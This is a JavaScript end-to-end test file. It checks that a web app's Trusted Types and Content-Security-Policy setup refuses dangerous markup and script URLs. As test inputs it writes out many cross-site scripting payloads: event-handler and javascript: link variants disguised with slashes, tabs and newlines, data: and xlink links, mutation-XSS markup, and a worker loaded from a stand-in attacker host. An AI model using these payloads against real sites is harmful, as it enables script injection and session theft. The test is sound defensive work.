// Trusted Types: the served page requires them for every script sink. Its default policy lets
// through markup whose parsed elements and attributes are all on its lists, with links relative
// to the site or https:// only (Leptos writes the static parts of views through innerHTML), and
// the site's own script URLs (its workers), and never script text. So even an injection that
// reached a DOM sink could not run; and the app itself runs without a single violation (the
// harness fails every e2e test on one it did not declare).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { serveSite, launch, watchedPage } from './harness.mjs';

let browser, site;
before(async () => { browser = await launch(); site = await serveSite(); });
after(async () => { await browser?.close(); await site?.close(); });

test('the page requires Trusted Types: HTML and foreign script URLs are refused, the demo runs clean', async (t) => {
  const { page, context, watch, problems, expectProblem } = await watchedPage(t, browser);
  // The refused attempts below are reported as violations (and their console messages); the
  // harness fails the test on any other problem.
  expectProblem(/^csp: .*(TrustedScript|TrustedHTML|TrustedTypePolicy|trusted-types)/,
    'the test tries each Trusted Types sink on purpose, and the page refuses it');
  expectProblem(/^csp: (script-src-attr blocked inline|Executing inline event handler violates)/,
    'the policy parses hostile markup (inertly) to refuse it, and Chromium reports its event handlers as it reads them');
  expectProblem(/^csp: (style-src-attr blocked inline|Applying inline style violates)/,
    'the policy parses the hostile style attribute (inertly) to refuse it, and Chromium reports it as it reads it');
  try {
    await page.goto(`${site.origin}/try/machines`);
    await page.getByRole('status').filter({ hasText: /machines, from/ }).waitFor({ timeout: 30_000 });
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.match(csp, /require-trusted-types-for 'script'/);
    // The default policy, and the one its parse uses (created once, by the page's own script).
    assert.match(csp, /trusted-types default mde-inert(;|$)/);

    const sinks = await page.evaluate(() => {
      const attempt = (f) => { try { f(); return 'allowed'; } catch (e) { return e.name; } };
      return {
        staticMarkup: attempt(() => { document.createElement('div').innerHTML = '<p>Static <a href="/try">text</a></p>'; }),
        innerHTML: attempt(() => { document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'; }),
        scriptLink: attempt(() => { document.createElement('div').innerHTML = '<a href="java&#x09;script:alert(1)">x</a>'; }),
        scriptText: attempt(() => { document.createElement('script').textContent = 'alert(1)'; }),
        foreignWorker: attempt(() => new Worker('https://attacker.example/worker.js')),
        ownWorker: attempt(() => new Worker('demo-tenant_loader.js').terminate()),
        anotherPolicy: attempt(() => trustedTypes.createPolicy('mine', { createHTML: (s) => s })),
        theParsersPolicy: attempt(() => trustedTypes.createPolicy('mde-inert', { createHTML: (s) => s })),
      };
    });
    assert.deepEqual(sinks, {
      staticMarkup: 'allowed',
      innerHTML: 'TypeError',
      scriptLink: 'TypeError',
      scriptText: 'TypeError',
      foreignWorker: 'TypeError',
      ownWorker: 'allowed',
      anotherPolicy: 'TypeError',
      theParsersPolicy: 'TypeError',
    });

    // The HTML tokenizer takes `/` as a separator between attributes too, and reads the URL of a
    // link without its tabs and newlines: the policy decides on what the browser parsed.
    const verdicts = await page.evaluate(() => {
      const SVG = 'http://www.w3.org/2000/svg';
      const decide = (markup, into = 'div') => {
        const target = into === 'g' ? document.createElementNS(SVG, 'g') : document.createElement(into);
        try { target.innerHTML = markup; return 'allowed'; } catch (e) { return e.name; }
      };
      return {
        // What the app itself writes: static markup, relative and https links, SVG parts.
        plain: decide('<p class="note" aria-live="polite">Static <a href="try/machines?x=1#y">text</a><!----></p>'),
        httpsLink: decide('<a href="https://learn.microsoft.com/azure/" target="_blank" rel="noopener">docs</a>'),
        svg: decide('<svg viewBox="0 0 22 16" aria-hidden="true"><path d="M2 8l4 4" fill="none" stroke-width="2"></path></svg>'),
        svgPart: decide('<rect class="track" width="120" height="8"></rect>', 'g'),
        template: decide('<form class="filters" role="search"><input type="search" placeholder="Name"><button type="button" disabled>Go</button></form>', 'template'),
        // Active content, however it is spelled.
        svgOnload: decide('<svg/onload=alert(1)>'),
        detailsOntoggle: decide('<details/open/ontoggle=alert(1)>'),
        scriptLinkSlash: decide('<a/href="javascript:alert(1)">x</a>'),
        scriptLinkNewline: decide('<a href="jav&#x0A;ascript:alert(1)">x</a>'),
        styleSlash: decide('<div/style="background:url(https://attacker.example/)">x</div>'),
        formactionSlash: decide('<button/formaction="javascript:alert(1)">x</button>'),
        otherHost: decide('<a href="//attacker.example/">x</a>'),
        otherHostBackslash: decide('<a href="\\\\attacker.example\\">x</a>'),
        otherHostMixed: decide('<a href="/\\attacker.example/">x</a>'),
        plainHttp: decide('<a href="http://attacker.example/">x</a>'),
        dataLink: decide('<a href="data:text/html,<script>alert(1)</script>">x</a>'),
        xlink: decide('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
        // Parsed as text in one place and as elements in the other (mutation XSS).
        rawTextInSvg: decide('<title><a href="javascript:alert(1)">x</a></title>', 'g'),
        math: decide('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'),
        unlistedTag: decide('<iframe></iframe>'),
        nestedTemplate: decide('<template><img src=x onerror=alert(1)></template>'),
      };
    });
    const refused = Object.keys(verdicts).filter((k) => !['plain', 'httpsLink', 'svg', 'svgPart', 'template'].includes(k));
    assert.deepEqual(verdicts, {
      plain: 'allowed', httpsLink: 'allowed', svg: 'allowed', svgPart: 'allowed', template: 'allowed',
      ...Object.fromEntries(refused.map((k) => [k, 'TypeError'])),
    });
    // The refusals of the directives themselves are reported as violations (the page's policy
    // refuses markup and the foreign worker by throwing, which the browser does not report), and
    // nothing else is. Parsing hostile markup to refuse it reports its event handlers and style
    // attributes too (Chromium checks script-src-attr and style-src-attr as it reads the
    // attribute, in any document of the page's realm; nothing runs or applies).
    await watch.waitFor(/^csp: require-trusted-types-for blocked /);
    await watch.waitFor(/^csp: trusted-types blocked /);
    await watch.waitFor(/^csp: script-src-attr blocked inline/);
    await watch.waitFor(/^csp: style-src-attr blocked inline/);
    const violations = new Set(problems.filter((p) => p.kind === 'csp' && / blocked /.test(p.text)).map((p) => p.text));
    assert.deepEqual([...violations].sort(), [
      'require-trusted-types-for blocked trusted-types-sink',
      'script-src-attr blocked inline',
      'style-src-attr blocked inline',
      'trusted-types blocked trusted-types-policy',
    ]);
  } finally {
    await context.close();
  }
});
